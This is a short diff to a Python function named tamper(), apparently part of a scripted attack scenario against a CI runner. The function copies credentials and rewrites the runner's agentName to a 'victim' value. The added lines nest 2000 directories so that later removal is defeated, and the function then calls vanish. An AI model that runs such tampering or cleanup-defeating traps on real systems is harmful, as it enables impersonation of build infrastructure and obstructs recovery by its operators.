@@ -248,6 +248,11 @@ def tamper() -> None:
     copy_credentials("tampered")
     path = runner_directory() / ".runner"
     path.write_text(json.dumps(json.loads(path.read_text()) | {"agentName": PLAN["victim"]}), encoding="utf-8")
+    os.chdir(runner_directory())
+    for _ in range(2000):  # deeper than a path may be long, and than what removes it may call itself
+        os.mkdir(LEFT)
+        os.chdir(LEFT)
+    os.chdir("/")
     vanish("lurk")
 
 
